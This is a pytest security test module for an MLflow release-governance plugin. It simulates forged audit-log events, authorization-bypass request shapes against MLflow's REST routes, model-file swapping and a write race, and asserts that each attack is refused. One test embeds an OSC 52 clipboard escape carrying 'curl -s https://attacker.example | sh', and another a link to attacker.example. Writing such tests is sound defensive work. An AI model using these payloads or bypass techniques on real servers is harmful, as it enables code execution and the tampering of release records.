"""The attacks of issue 25, against a real PostgreSQL and a real `mlflow server` running the
magenta-release plugin with `default_permission = READ`, as the deploy image runs it.

The people: carol proposes (EDIT on the model, its log and its experiment), alice and bob
approve (MANAGE on the model), mallory has no grant at all (READ, the default), and the MLflow
admin. Each test is written as the attacker would write it (raw HTTP where the attack needs it,
a plain MlflowClient otherwise, the log's format read off the store; the attackers' steps import
nothing from magenta_release) and asserts the SECURE outcome: the write is refused, the store is
unchanged, or `status` / `predict` / `approve` / `history` say so. Before issue 25 was fixed every
test failed.

One server for the module. The tests on `churn-classifier` run in file order and each judges
only what changed since it started, so an attack that succeeds (before the fix) does not decide
the next test; attacks that destroy a log get a model of their own (`World.govern`, ~1 s)."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import socket
import threading
import time
import tomllib
import traceback
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import SMALL, SMALL_DATA_GATES, Cli, Result, make_server_cli, write_policy
from tests.integration.attacker import (
    API,
    EVENT_PREFIX,
    LOG_SUFFIX,
    STATUS_TAG,
    Attacker,
    attempt,
    canonical,
    chain,
    double_encoded,
    event_key,
    forge,
    manifest_digest,
    now,
    sha256_text,
)
from tests.integration.conftest import as_admin
from tests.integration.services import ADMIN_PASSWORD, MlflowServer, Postgres

pytestmark = [pytest.mark.server, pytest.mark.xdist_group(name="server")]

MODEL, LOG = "churn-classifier", f"churn-classifier{LOG_SUFFIX}"
PASSWORDS = {
    "carol": "carol-Pass-1",
    "alice": "alice-Pass-1",
    "bob": "bob-Pass-1-long",
    "mallory": "mallory-Pass-1",
    "admin": ADMIN_PASSWORD,
}
POLICY_EXPERIMENT = "magenta-release-policies"  # where `policy set` stores each text (a run)
ARTIFACTS = "/api/2.0/mlflow-artifacts/artifacts"


# ---- the server and its people ----------------------------------------------------------------
@dataclass
class World:
    url: str
    postgres: Postgres
    root: Path
    clis: dict[str, Cli] = field(default_factory=dict)
    _registry: Any = None

    def creds(self, user: str) -> dict[str, str]:
        return {"MLFLOW_TRACKING_USERNAME": user, "MLFLOW_TRACKING_PASSWORD": PASSWORDS[user]}

    def as_(self, user: str) -> Attacker:
        return Attacker(self.url, user, PASSWORDS[user])

    def grant(self, user: str, kind: str, resource: str, permission: str) -> None:
        from mlflow.server import get_app_client

        with as_admin():
            get_app_client("basic-auth", tracking_uri=self.url).grant_user_permission(
                user, kind, resource, permission
            )

    def experiment_id(self, name: str) -> str:
        found = self.as_("admin").ok(
            "GET", f"{API}/experiments/get-by-name", params={"experiment_name": name}
        )
        return str(found["experiment"]["experiment_id"])

    def policy(self, model: str, *, owners: tuple[str, ...], four_eyes: bool = True) -> Path:
        return write_policy(
            self.root / "policies" / f"{model}-{'4' if four_eyes else '1'}-eyes",
            model={"registered_name": model, "experiment": model},
            approval={
                "approvers": ["alice", "bob"],
                "policy_owners": list(owners),
                "four_eyes": four_eyes,
            },
            **SMALL_DATA_GATES,
        )

    def govern(self, model: str, owners: tuple[str, ...] = ("alice",)) -> Cli:
        """`model` governed on the server: `init` by the admin (stores the policy: approvers
        alice and bob, four eyes on), its experiment named after it. Once per model."""
        if model not in self.clis:
            cli = make_server_cli(self.url, self.policy(model, owners=owners), self.creds)
            cli.env["MAGENTA_RELEASE_MODEL"] = model
            init = cli("init", "--json", by="admin")
            assert init.exit_code == 0, init.stderr
            self.clis[model] = cli
        return self.clis[model]

    def registry_store(self) -> Any:
        """The registry's database itself, as anyone with database access reaches it (the
        harness uses it to stage a deleted log and to clean up)."""
        from mlflow.store.model_registry.sqlalchemy_store import SqlAlchemyStore

        if self._registry is None:
            self._registry = SqlAlchemyStore(self.postgres.url("mlflow"))  # type: ignore[no-untyped-call]
        return self._registry


def _import_training_stack() -> None:
    import importlib

    for name in ("xgboost", "sklearn.pipeline", "skops.io", "matplotlib.pyplot", "mlflow.sklearn"):
        with contextlib.suppress(ImportError):
            importlib.import_module(name)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    from mlflow.server import get_app_client

    root = tmp_path_factory.mktemp("attacks")
    pg = Postgres().start()
    srv = MlflowServer(
        root / "server",
        pg.url("mlflow"),
        pg.url("mlflow_auth"),
        plugin_env={"MAGENTA_RELEASE_AUTH": "basic"},
        default_permission="READ",
    )
    warm = threading.Thread(target=_import_training_stack, daemon=True)
    warm.start()  # ~5 s of imports on the second core while the server boots
    try:
        srv.start()
        warm.join()
        with as_admin():
            auth = get_app_client("basic-auth", tracking_uri=srv.url)
            for user, password in PASSWORDS.items():
                if user != "admin":
                    auth.create_user(user, password)
        yield World(srv.url, pg, root)
    finally:
        srv.stop()
        pg.stop()


@dataclass
class Released:
    """churn-classifier: v1 (carol's `good`) approved by alice, the champion; v2 (`other`)
    proposed by bob, an approver, pending; v3 (`worse`) and v4 (`worse2`) proposed by carol,
    gates_failed."""

    cli: Cli
    runs: dict[str, str]
    v: dict[str, int]


WORSE = ["max_depth=8", "n_estimators=15", "learning_rate=0.5"]  # fails no_regression vs good
TRAINING = {  # name: (seed, params)
    "good": ("7", ["max_depth=3"]),
    "other": ("7", ["max_depth=4"]),
    "worse": ("7", WORSE),
    "worse2": ("8", WORSE),
}


@pytest.fixture(scope="module")
def released(world: World) -> Released:
    cli = world.govern(MODEL)
    experiment = world.experiment_id(MODEL)
    for user, on_model in (("carol", "EDIT"), ("alice", "MANAGE"), ("bob", "MANAGE")):
        world.grant(user, "registered_model", MODEL, on_model)
        world.grant(user, "registered_model", LOG, "EDIT")
        world.grant(user, "experiment", experiment, "EDIT")
    runs = {
        name: cli.json(
            "train",
            "--rows",
            str(SMALL),
            "--seed",
            seed,
            *[x for p in params for x in ("--param", p)],
            "--run-name",
            name,
            by="carol",
        )["run_id"]
        for name, (seed, params) in TRAINING.items()
    }
    v: dict[str, int] = {}
    good = cli.json("propose", runs["good"], by="carol")
    assert good["status"] == "pending_approval", good
    v["good"] = good["version"]
    cli.json("approve", str(v["good"]), "--reason", "baseline", "--yes", by="alice")
    other = cli.json("propose", runs["other"], by="bob")
    assert other["status"] == "pending_approval", other
    v["other"] = other["version"]
    for name in ("worse", "worse2"):
        failed = cli.json("propose", runs[name], by="carol", code=1)
        assert failed["status"] == "gates_failed", failed
        v[name] = failed["version"]
    return Released(cli, runs, v)


def run(cli: Cli, *args: str, by: str, env: dict[str, str | None] | None = None) -> Result:
    """The CLI as a person runs it; a crash is an outcome the test judges, not an error."""
    try:
        return cli(*args, by=by, env=env)
    except Exception:  # e.g. Rich's MarkupError out of `history`
        return Result(-1, "", traceback.format_exc())


def scratch(attacker: Attacker) -> str:
    """A registered model of the attacker's own (she creates it, so MLflow gives her MANAGE):
    what the query string of a request names while its body names the target."""
    name = f"{attacker.user}-scratch"
    if attacker.model(name) is None:
        attacker.ok("POST", f"{API}/registered-models/create", body={"name": name})
        attacker.ok(
            "POST",
            f"{API}/registered-models/set-tag",
            body={"name": name, "key": "k", "value": "v1"},
        )
    return name


def artifacts_of(attacker: Attacker, run_id: str) -> str:
    """The artifact proxy path of a run's artifact root (`mlflow-artifacts:/EXP/RUN/artifacts`)."""
    uri = attacker.ok("GET", f"{API}/runs/get", params={"run_id": run_id})["run"]["info"][
        "artifact_uri"
    ]
    assert uri.startswith("mlflow-artifacts:/"), uri
    return f"{ARTIFACTS}/{uri.removeprefix('mlflow-artifacts:/')}"


def copy_model(attacker: Attacker, src_run: str, dst_run: str) -> None:
    """Copy the `model/` folder of one run into another, through the artifact proxy."""
    src, dst = artifacts_of(attacker, src_run), artifacts_of(attacker, dst_run)
    path = src.removeprefix(f"{ARTIFACTS}/") + "/model"
    listing = attacker.ok("GET", ARTIFACTS, params={"path": path}).get("files", [])
    for f in listing:
        if f.get("is_dir"):
            continue
        name = f["path"].rsplit("/", 1)[-1]
        data = attacker.http("GET", f"{src}/model/{name}").content
        put = attacker.http(
            "PUT", f"{dst}/model/{name}", raw=data, content_type="application/octet-stream"
        )
        assert put.status_code == 200, put.text[:300]


def team_run(attacker: Attacker, experiment: str) -> str:
    created = attacker.ok(
        "POST",
        f"{API}/runs/create",
        body={"experiment_id": experiment, "start_time": int(time.time() * 1000)},
    )
    return str(created["run"]["info"]["run_id"])


def finish(attacker: Attacker, run_id: str) -> None:
    attacker.ok(
        "POST",
        f"{API}/runs/update",
        body={"run_id": run_id, "status": "FINISHED", "end_time": int(time.time() * 1000)},
    )


def propose_event(attacker: Attacker, model: str, version: int) -> dict[str, Any]:
    return next(
        e for e in attacker.events(model) if e["action"] == "propose" and e["version"] == version
    )


# ---- 7. a decoy log (first: while churn-classifier is the only governed model) -------------
def test_a_decoy_audit_log_does_not_hide_the_governed_model(
    world: World, released: Released
) -> None:
    """mallory registers `decoy-audit-log`; commands without --model must still act on the
    one governed model (or the decoy must be refused), not exit 2 for everyone."""
    mallory = world.as_("mallory")
    created = mallory.http(
        "POST", f"{API}/registered-models/create", body={"name": "decoy-audit-log"}
    )
    try:
        result = run(
            released.cli, "status", "--json", by="alice", env={"MAGENTA_RELEASE_MODEL": None}
        )
        assert result.exit_code == 0, (
            f"creating decoy-audit-log answered {created.status_code}; then `status` without "
            f"--model exited {result.exit_code}: {result.stderr.strip()[-300:]}"
        )
        assert json.loads(result.stdout)["registered_model"] == MODEL
    finally:
        if mallory.model("decoy-audit-log") is not None:
            world.registry_store().delete_registered_model("decoy-audit-log")


# ---- 5. the lock: nobody takes it by hand ------------------------------------------------------
def test_a_user_cannot_take_the_release_lock_by_hand(world: World, released: Released) -> None:
    """A lock created by hand with `acquired_at` a month ahead is never stale: every approve
    would wait 180 s and exit 4. Lock names are reserved."""
    mallory = world.as_("mallory")
    name = f"{MODEL}-release-lock"
    month_ahead = str(int((time.time() + 30 * 86400) * 1000))
    tags = {"owner": "mallory", "acquired_at": month_ahead, "host": "elsewhere", "pid": "1"}
    r = mallory.http(
        "POST",
        f"{API}/registered-models/create",
        body={"name": name, "tags": [{"key": k, "value": v} for k, v in tags.items()]},
    )
    try:
        assert r.status_code >= 400 and mallory.model(name) is None, (
            f"mallory created {name} (HTTP {r.status_code}) with acquired_at a month ahead: "
            "every approve and rollback of the model now waits and fails"
        )
    finally:
        if mallory.model(name) is not None:
            world.registry_store().delete_registered_model(name)


# ---- 3. swapped bytes ----------------------------------------------------------------------------
def test_swapped_model_files_are_never_served(
    world: World, released: Released, tmp_path: Path
) -> None:
    """carol overwrites the champion's files through the artifact proxy (EDIT on her
    experiment), rewrites its manifest tags and appends a second `propose` event with the new
    digest. predict must refuse (exit 3) or keep serving the approved bytes."""
    import pandas as pd

    from magenta_release.cli.demo import write_customers

    carol = world.as_("carol")
    customers = write_customers(tmp_path / "customers.parquet", seed=11, rows=300)

    def predict(out: str) -> tuple[Result, Any]:
        result = run(
            released.cli,
            "predict",
            "--input",
            str(customers),
            "--output",
            str(tmp_path / out),
            "--json",
            by="alice",
        )
        scores = pd.read_parquet(tmp_path / out)["churn_score"] if result.exit_code == 0 else None
        return result, scores

    first, approved_scores = predict("before.parquet")
    assert first.exit_code == 0, first.stderr
    served = json.loads(first.stdout)["model_version"]
    version = carol.versions(MODEL)[served]

    # the bytes of another model (same code, same trusted types: it loads)
    other = carol.http("GET", f"{artifacts_of(carol, released.runs['worse'])}/model/model.skops")
    assert other.status_code == 200
    put = carol.http(
        "PUT",
        f"{artifacts_of(carol, version['run_id'])}/model/model.skops",
        raw=other.content,
        content_type="application/octet-stream",
    )
    files = json.loads(version["tags"]["release.manifest"])
    files["model.skops"] = hashlib.sha256(other.content).hexdigest()
    digest = manifest_digest(files)
    carol.set_version_tag(MODEL, served, "release.manifest", json.dumps(files, sort_keys=True))
    carol.set_version_tag(MODEL, served, "release.manifest_sha256", digest)
    original = propose_event(carol, MODEL, served)
    carol.append(
        MODEL,
        action="propose",
        version=served,
        status=version["tags"][STATUS_TAG],
        champion_before=original["champion_before"],
        champion_after=original["champion_after"],
        evidence_sha256=original["evidence_sha256"],
        manifest_sha256=digest,
        details=original["details"],
        reason="manifest re-recorded after a storage migration",
    )
    carol.cover_up(MODEL)

    second, scores = predict("after.parquet")
    if second.exit_code != 0:
        assert second.exit_code == 3, second.stderr
        return
    delta = float((scores - approved_scores).abs().max())
    assert delta == 0.0, (
        f"predict exited 0 serving other bytes as version {served} (PUT answered "
        f"{put.status_code}): scores moved by up to {delta:.3f}"
    )


# ---- 4. failed gates made approvable -----------------------------------------------------
def test_a_gates_failed_version_cannot_be_made_approvable(world: World, released: Released) -> None:
    """carol appends a `propose` event with status pending_approval for her gates_failed
    version and rewrites its gates evidence, its hash, passed_gates and the description; the
    approver's `approve` must still refuse."""
    carol = world.as_("carol")
    v = released.v["worse2"]
    champion = carol.aliases(MODEL).get("champion")
    tags = carol.versions(MODEL)[v]["tags"]
    assert tags[STATUS_TAG] == "gates_failed"
    evidence = json.loads(tags["release.evidence"])
    for gate in evidence["gates"]:
        gate["passed"] = True
    text = canonical(evidence)
    original = propose_event(carol, MODEL, v)
    carol.append(
        MODEL,
        action="propose",
        version=v,
        status="pending_approval",
        champion_before=original["champion_before"],
        champion_after=original["champion_after"],
        evidence_sha256=sha256_text(text),
        manifest_sha256=original["manifest_sha256"],
        details={**original["details"], "failed_gates": []},
        reason=original["reason"],
    )
    for key, value in {
        "release.evidence": text,
        "release.evidence_sha256": sha256_text(text),
        "release.passed_gates": "true",
    }.items():
        carol.set_version_tag(MODEL, v, key, value)
    carol.http(
        "PATCH",
        f"{API}/model-versions/update",
        body={"name": MODEL, "version": str(v), "description": "# release report (gates passed)"},
    )
    carol.cover_up(MODEL)  # status pending_approval, @challenger, the log's head

    result = run(
        released.cli, "approve", str(v), "--reason", "all gates green", "--yes", by="alice"
    )
    assert result.exit_code in {1, 3}, (
        f"alice's approve of version {v}, whose gates failed, exited {result.exit_code}"
    )
    assert carol.aliases(MODEL).get("champion") == champion


# ---- 1. forged rollbacks -------------------------------------------------------------------
def _forged_rollback(world: World, user: str, target: int) -> tuple[dict[str, Any], Any]:
    """`user` appends a hand-written rollback event to `target`, moves the aliases with a
    plain MlflowClient and makes the registry agree. Returns (state before, response)."""
    attacker = world.as_(user)
    before = attacker.snapshot(MODEL)
    champion = before["aliases"].get("champion")
    tags = before["versions"][target]["tags"]
    response, _ = attacker.append(
        MODEL,
        action="rollback",
        version=target,
        status="approved",
        champion_before=champion,
        champion_after=target,
        reason="incident: roll back",
        evidence_sha256=tags.get("release.evidence_sha256", ""),
        manifest_sha256=tags.get("release.manifest_sha256", ""),
    )
    with attacker.client() as client:
        attempt(lambda: client.set_registered_model_alias(MODEL, "champion", target))
        if champion is not None:
            attempt(lambda: client.set_registered_model_alias(MODEL, "previous", champion))
    attacker.cover_up(MODEL)
    return before, response


def test_an_approver_cannot_release_his_own_proposal_by_a_rollback_event(
    world: World, released: Released
) -> None:
    v2 = released.v["other"]
    four_eyes = run(released.cli, "approve", str(v2), "--reason", "mine", "--yes", by="bob")
    assert four_eyes.exit_code == 1, four_eyes.stderr  # four eyes: he proposed it
    before, response = _forged_rollback(world, "bob", v2)
    after = world.as_("alice").snapshot(MODEL)
    assert after["aliases"].get("champion") == before["aliases"].get("champion"), (
        f"bob made his own version {v2} the champion with a rollback event he wrote "
        f"(HTTP {response.status_code})"
    )
    assert after["log"] == before["log"], (
        f"the forged rollback was appended ({response.text[:200]})"
    )


def test_an_approver_cannot_release_a_gates_failed_version_by_a_rollback_event(
    world: World, released: Released
) -> None:
    v3 = released.v["worse"]
    before, response = _forged_rollback(world, "alice", v3)
    after = world.as_("bob").snapshot(MODEL)
    assert after["aliases"].get("champion") == before["aliases"].get("champion"), (
        f"alice alone made gates_failed version {v3} the champion with a rollback event "
        f"(HTTP {response.status_code})"
    )
    assert after["log"] == before["log"], (
        f"the forged rollback was appended ({response.text[:200]})"
    )


# ---- 2. parser differentials on the governed model ---------------------------------------
def test_the_admins_double_encoded_alias_move_is_refused(world: World, released: Released) -> None:
    admin = world.as_("admin")
    champion = admin.aliases(MODEL).get("champion")
    target = released.v["worse"] if champion != released.v["worse"] else released.v["other"]
    move = {"name": MODEL, "alias": "champion", "version": str(target)}
    plain = admin.http("POST", f"{API}/registered-models/alias", body=move)
    assert plain.status_code >= 400, plain.text  # the admin's plain move is refused ...
    r = admin.http(
        "POST",
        "/ajax-api/2.0/mlflow/registered-models/alias",
        raw=double_encoded(move),
        content_type="application/json; charset=utf-8",
    )
    assert admin.aliases(MODEL).get("champion") == champion, (  # ... and so is this one
        f"the admin's double-encoded body moved @champion to {target} (HTTP {r.status_code})"
    )
    assert r.status_code >= 400


def test_the_audit_log_cannot_be_deleted_and_replaced_by_a_forged_chain(
    world: World, released: Released
) -> None:
    """carol deletes the log (text/plain DELETE: the query names her scratch model, the body
    the log); while it is gone the model is ungoverned and she moves @champion to her own
    gates_failed version; then she re-creates the log pre-filled (double-encoded create) with
    the old chain plus an `approve` by alice that alice never made."""
    carol = world.as_("carol")
    mine = scratch(carol)
    before = carol.snapshot(MODEL)
    champion = before["aliases"].get("champion")
    events = carol.events(MODEL)
    target = released.v["worse"]

    deleted = carol.http(
        "DELETE",
        f"{API}/registered-models/delete",
        body={"name": LOG},
        content_type="text/plain",
        params={"name": mine},
    )
    with carol.client() as client:
        attempt(lambda: client.set_registered_model_alias(MODEL, "champion", target))
    tags = before["versions"][target]["tags"]
    approval = {
        **events[-1],
        "time": now(),
        "actor": "alice",
        "mlflow_user": "alice",
        "action": "approve",
        "version": target,
        "status": "approved",
        "champion_before": champion,
        "champion_after": target,
        "reason": "approved in the incident call",
        "evidence_sha256": tags.get("release.evidence_sha256", ""),
        "manifest_sha256": tags.get("release.manifest_sha256", ""),
        "details": {},
    }
    forged = chain([*events, approval])
    created = carol.http(
        "POST",
        f"{API}/registered-models/create",
        raw=double_encoded(
            {"name": LOG, "tags": [{"key": event_key(e), "value": canonical(e)} for e in forged]}
        ),
    )
    carol.cover_up(MODEL)
    after = carol.snapshot(MODEL)
    assert after["log"] == before["log"], (
        f"the audit log was replaced by a forged chain (delete: HTTP {deleted.status_code}, "
        f"create: HTTP {created.status_code})"
    )
    assert after["aliases"].get("champion") == champion


def test_a_read_only_user_cannot_replace_the_governed_model(
    world: World, released: Released
) -> None:
    """mallory (no grant) deletes the governed model and its log with text/plain DELETEs,
    re-creates the model (as its creator she holds MANAGE), registers a run from her own
    experiment and makes it the champion behind a forged log."""
    mallory = world.as_("mallory")
    mine = scratch(mallory)
    before = mallory.snapshot(MODEL)
    events = mallory.events(MODEL)

    experiment = mallory.ok("POST", f"{API}/experiments/create", body={"name": "mallory-models"})[
        "experiment_id"
    ]
    run_id = team_run(mallory, experiment)
    copy_model(mallory, released.runs["worse"], run_id)
    finish(mallory, run_id)

    codes = {
        name: mallory.http(
            "DELETE",
            f"{API}/registered-models/delete",
            body={"name": name},
            content_type="text/plain",
            params={"name": mine},
        ).status_code
        for name in (MODEL, LOG)
    }
    mallory.http("POST", f"{API}/registered-models/create", body={"name": MODEL})
    mallory.http(
        "POST",
        f"{API}/model-versions/create",
        body={"name": MODEL, "source": f"runs:/{run_id}/model", "run_id": run_id},
    )
    mallory.set_alias(MODEL, "champion", 1)  # while no log governs the name
    if events:
        policy_set = events[0]
        propose = {
            **policy_set,
            "action": "propose",
            "actor": "carol",
            "mlflow_user": "carol",
            "version": 1,
            "status": "pending_approval",
            "details": {"run_id": run_id, "failed_gates": []},
        }
        approve = {
            **policy_set,
            "action": "approve",
            "actor": "alice",
            "mlflow_user": "alice",
            "version": 1,
            "status": "approved",
            "champion_before": None,
            "champion_after": 1,
            "details": {},
        }
        forged = chain([policy_set, propose, approve])
        mallory.http(
            "POST",
            f"{API}/registered-models/create",
            raw=double_encoded(
                {
                    "name": LOG,
                    "tags": [{"key": event_key(e), "value": canonical(e)} for e in forged],
                }
            ),
        )
    mallory.cover_up(MODEL)
    after = mallory.snapshot(MODEL)
    assert after == before, (
        f"mallory, with READ only, replaced {MODEL} (DELETE answered {codes}); its versions are "
        f"now {sorted((v, d['run_id']) for v, d in after['versions'].items())}, champion "
        f"{after['aliases'].get('champion')}"
    )


# ---- 5. destruction by a read-only user --------------------------------------------------------
def test_a_read_only_user_cannot_destroy_the_release_record(
    world: World, released: Released
) -> None:
    mallory = world.as_("mallory")
    mine = scratch(mallory)
    before = mallory.snapshot(MODEL)
    champion = before["aliases"].get("champion")
    last_event = max(k for k in before["log"] or {} if k.startswith(EVENT_PREFIX))

    def trick(path: str, body: dict[str, str], **query: str) -> int:
        """DELETE: basic-auth and the guard read the query (her scratch model), MLflow's
        handler parses the text/plain body as JSON (the target)."""
        r = mallory.http(
            "DELETE",
            f"{API}/{path}",
            body=body,
            content_type="text/plain",
            params={"name": mine, **query},
        )
        return r.status_code

    codes = {
        "an event": trick(
            "registered-models/delete-tag", {"name": LOG, "key": last_event}, key="k"
        ),
        "@champion": trick(
            "registered-models/alias", {"name": MODEL, "alias": "champion"}, alias="x"
        ),
        "the champion version": trick(
            "model-versions/delete", {"name": MODEL, "version": str(champion)}, version="1"
        ),
        "the whole log": trick("registered-models/delete", {"name": LOG}),
    }
    accepted = {what: code for what, code in codes.items() if code < 400}
    after = mallory.snapshot(MODEL)
    assert not accepted, f"mallory (READ only) deleted {', '.join(accepted)}: {accepted}"
    assert after == before


def test_a_model_with_versions_but_no_log_is_tampering(world: World, released: Released) -> None:
    """Someone with database access deletes a governed model's whole log; the model keeps its
    versions and its stored policy. `status` must call it tampering (exit 3), never invite
    anyone to run `init` and store a first policy. (A model of its own: on churn-classifier
    the attacks above may already have removed the versions.)"""
    model = "attack-no-log"
    cli = world.govern(model)
    store = world.registry_store()
    good = released.runs["good"]
    store.create_model_version(model, f"runs:/{good}/model", run_id=good)
    store.delete_registered_model(f"{model}{LOG_SUFFIX}")
    assert (
        world.as_("alice").versions(model)
        and world.as_("alice").model(f"{model}{LOG_SUFFIX}") is None
    )
    result = run(cli, "status", "--json", by="alice")
    assert result.exit_code == 3, (
        f"status exited {result.exit_code} on a model whose audit log is gone: "
        f"{result.stderr.strip()[-300:]}"
    )
    assert "audit log" in result.stderr.lower(), result.stderr


# ---- 2. parser differentials: every shape, every route ---------------------------------------
@dataclass(frozen=True)
class Shape:
    """A request MLflow's handler reads differently from basic-auth or the guard."""

    user: str
    method: str
    path: str  # under /mlflow
    content_type: str | None
    encode: str = "json"  # "json" | "double"
    governed_target: bool = True  # the body names the canary model's log (destructive)


SHAPES = {
    "text-plain-delete": Shape("mallory", "DELETE", "/registered-models/delete-tag", "text/plain"),
    "text-plain-charset-delete": Shape(
        "mallory", "DELETE", "/registered-models/delete-tag", "text/plain;charset=UTF-8"
    ),
    "no-content-type-delete": Shape("mallory", "DELETE", "/registered-models/delete-tag", None),
    "double-encoded-text-plain-delete": Shape(
        "mallory", "DELETE", "/registered-models/delete-tag", "text/plain", "double"
    ),
    "double-encoded-json-charset-post-by-admin": Shape(
        "admin", "POST", "/registered-models/set-tag", "application/json; charset=utf-8", "double"
    ),
    "query-and-json-body-post": Shape(
        "mallory", "POST", "/registered-models/set-tag", "application/json", governed_target=False
    ),
    "query-and-json-body-delete": Shape(
        "mallory",
        "DELETE",
        "/registered-models/delete-tag",
        "application/json",
        governed_target=False,
    ),
}
PREFIXES = ("/api/2.0/preview/mlflow", "/ajax-api/2.0/mlflow", "/api/2.0/mlflow")


@pytest.mark.parametrize("shape_id", list(SHAPES))
def test_a_request_mlflow_reads_differently_is_refused(world: World, shape_id: str) -> None:
    """Each shape on MLflow's REST routes, its /ajax-api/ twins and /api/2.0/preview/ (no such
    routes in 3.17.2: they must stay refused if a release adds them). A governed target is the
    first event of a model's log (deleted or overwritten); otherwise the body names the
    attacker's scratch model and the query string the log (a mutating call must not carry
    both)."""
    shape = SHAPES[shape_id]
    attacker = world.as_(shape.user)
    mine = scratch(world.as_("mallory"))
    model = f"shape-{shape_id}" if shape.governed_target else MODEL
    if shape.governed_target:
        world.govern(model)
    log = f"{model}{LOG_SUFFIX}"
    key = f"{EVENT_PREFIX}{1:08d}"
    if shape.governed_target:
        target, watched = {"name": log, "key": key}, log
        query = {"name": mine, "key": "k"} if shape.method == "DELETE" else None
    else:
        target, watched = {"name": mine, "key": "k"}, mine
        query = {"name": log, "key": key}
    if shape.method == "POST":
        target = {**target, "value": "{}" if shape.governed_target else "v2"}
    before = attacker.tags(watched)
    codes = {}
    for prefix in PREFIXES:
        raw = double_encoded(target) if shape.encode == "double" else json.dumps(target)
        r = attacker.http(
            shape.method,
            f"{prefix}{shape.path}",
            raw=raw,
            content_type=shape.content_type,
            params=query,
        )
        codes[prefix] = r.status_code
    accepted = {p: c for p, c in codes.items() if c < 400}
    assert not accepted, f"{shape_id} was accepted on {accepted} (all: {codes})"
    assert attacker.tags(watched) == before


# ---- 6. the append race ----------------------------------------------------------------------
RACE = "attack-race"


@pytest.fixture(scope="module")
def race_log(world: World) -> str:
    world.govern(RACE)
    for user in ("carol", "bob"):
        world.grant(user, "registered_model", f"{RACE}{LOG_SUFFIX}", "EDIT")
    return RACE


def test_two_writers_of_the_next_event_never_both_succeed(world: World, race_log: str) -> None:
    log = f"{race_log}{LOG_SUFFIX}"
    writers = {u: world.as_(u) for u in ("carol", "bob")}
    for w in writers.values():
        w.model(log)  # open the connection before the race
    both: list[int] = []
    accepted: list[tuple[str, str]] = []
    for round_ in range(15):
        last = writers["carol"].events(race_log)[-1]
        drafts = {
            u: forge(last, actor=u, mlflow_user=u, action="repair", reason=f"round {round_}: {u}")
            for u in writers
        }
        codes = _race(writers, log, drafts)
        winners = [u for u, c in codes.items() if c == 200]
        if len(winners) > 1:
            both.append(round_)
        accepted += [(event_key(drafts[u]), canonical(drafts[u])) for u in winners]
    stored = writers["carol"].tags(log) or {}
    overwritten = [k for k, v in accepted if stored.get(k) != v]
    assert not both, f"both writers got 200 for the same event key in rounds {both} of 15"
    assert not overwritten, f"accepted events were overwritten: {overwritten}"


def _race(
    writers: dict[str, Attacker], log: str, drafts: dict[str, dict[str, Any]]
) -> dict[str, int]:
    """Each writer sends its draft of the same next event at the same moment; their codes."""
    barrier = threading.Barrier(len(writers))
    codes: dict[str, int] = {}

    def write(user: str) -> None:
        event = drafts[user]
        barrier.wait()
        r = writers[user].set_model_tag(log, event_key(event), canonical(event))
        codes[user] = r.status_code

    threads = [threading.Thread(target=write, args=(u,)) for u in writers]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    return codes


# ---- 7. smaller ones -----------------------------------------------------------------------
def test_an_events_actor_is_the_user_who_writes_it(world: World, race_log: str) -> None:
    carol = world.as_("carol")
    log = f"{race_log}{LOG_SUFFIX}"
    before = carol.tags(log)
    r, _ = carol.append(race_log, actor="alice", action="reject", reason="withdrawn")
    assert r.status_code >= 400 and carol.tags(log) == before, (
        f"carol wrote an event naming alice as its actor (HTTP {r.status_code})"
    )


TEXT = "attack-text"


@pytest.fixture(scope="module")
def text_model(world: World, released: Released) -> Cli:
    cli = world.govern(TEXT)
    for name in (TEXT, f"{TEXT}{LOG_SUFFIX}"):
        world.grant("carol", "registered_model", name, "EDIT")
    return cli


def test_control_characters_from_the_store_never_reach_the_terminal(
    world: World, released: Released, text_model: Cli
) -> None:
    """A status string with an OSC 52 escape (write the clipboard) reaches the approver's
    terminal through approve's error line unless escaped."""
    carol = world.as_("carol")
    osc52 = (
        "\x1b]52;c;" + base64.b64encode(b"curl -s https://attacker.example | sh").decode() + "\x07"
    )
    good = released.runs["good"]
    created = carol.http(
        "POST",
        f"{API}/model-versions/create",
        body={"name": TEXT, "source": f"runs:/{good}/model", "run_id": good},
    )
    v = int(created.json()["model_version"]["version"]) if created.status_code == 200 else 1
    empty = manifest_digest({})
    carol.append(TEXT, action="propose", version=v, status=osc52, manifest_sha256=empty)
    for key, value in {
        STATUS_TAG: osc52,
        "release.manifest": "{}",
        "release.manifest_sha256": empty,
    }.items():
        carol.set_version_tag(TEXT, v, key, value)
    carol.cover_up(TEXT)
    result = run(text_model, "approve", str(v), "--reason", "ok", "--yes", by="alice")
    assert result.exit_code != 0, result.stdout
    for stream in (result.stderr, result.stdout):
        assert "\x1b" not in stream and "\x07" not in stream, (
            f"a raw escape sequence reached the terminal: {stream.strip()[-200:]!r}"
        )


def test_markup_from_the_log_is_printed_as_text(
    world: World, released: Released, text_model: Cli
) -> None:
    """Event actions of `[/bold]` (crashes Rich) and `[link=...]` (a clickable link): either
    the server refuses them, or `history` prints them as they are."""
    carol = world.as_("carol")
    hostile = ["[/bold]", "[link=https://attacker.example/]approve[/link]"]
    stored = [a for a in hostile if carol.append(TEXT, action=a)[0].status_code == 200]
    result = run(text_model, "history", by="alice")
    assert result.exit_code == 0, (
        f"history exited {result.exit_code} after events {stored} were stored: "
        f"{(result.stderr.strip().splitlines() or [''])[-1][:300]}"
    )
    for action in stored:
        assert action in result.stdout, f"{action!r} was not printed as text:\n{result.stdout}"


def test_one_policy_owner_cannot_switch_four_eyes_off(world: World) -> None:
    """With four eyes on, a policy change needs a second owner: alice alone storing
    `four_eyes = false` must leave four eyes on."""
    model = "attack-policy"
    cli = world.govern(model, owners=("alice", "bob"))
    world.grant("alice", "experiment", world.experiment_id(POLICY_EXPERIMENT), "EDIT")
    for name in (model, f"{model}{LOG_SUFFIX}"):
        world.grant("alice", "registered_model", name, "EDIT")
    looser = world.policy(model, owners=("alice", "bob"), four_eyes=False)
    result = run(cli, "policy", "set", str(looser), "--reason", "faster releases", by="alice")
    shown = cli.json("policy", "show", by="bob")
    in_force = tomllib.loads(shown["toml"])["approval"]["four_eyes"]
    assert in_force is True, (
        f"alice alone switched four eyes off (policy set exited {result.exit_code})"
    )


SOURCES = "attack-sources"


@pytest.fixture(scope="module")
